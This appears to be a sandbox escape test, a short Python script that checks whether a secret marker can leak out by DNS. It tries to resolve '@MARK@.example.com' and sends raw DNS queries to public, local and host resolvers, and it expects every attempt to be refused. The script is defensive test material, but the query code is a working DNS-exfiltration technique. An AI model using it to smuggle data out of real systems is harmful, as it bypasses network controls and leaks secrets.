# A secret in the name that is asked for.
# expect: ok
# stdout: refused
# limits: wall_ms=6000
import socket, struct

try:
    print('ESCAPED:', socket.getaddrinfo('@MARK@.example.com', 80))
except OSError as error:
    print('refused', error.errno)
query = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p for p in b'@MARK@.example.com'.split(b'.')) + b'\0\0\1\0\1'
for server in ('192.0.2.77', '8.8.8.8', '127.0.0.53', '@HOST_IP@'):
    try:
        asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        asker.settimeout(0.2)
        asker.sendto(query, (server, 53))
        print('ESCAPED:', asker.recv(512))
    except OSError as error:
        print('refused', error.errno)
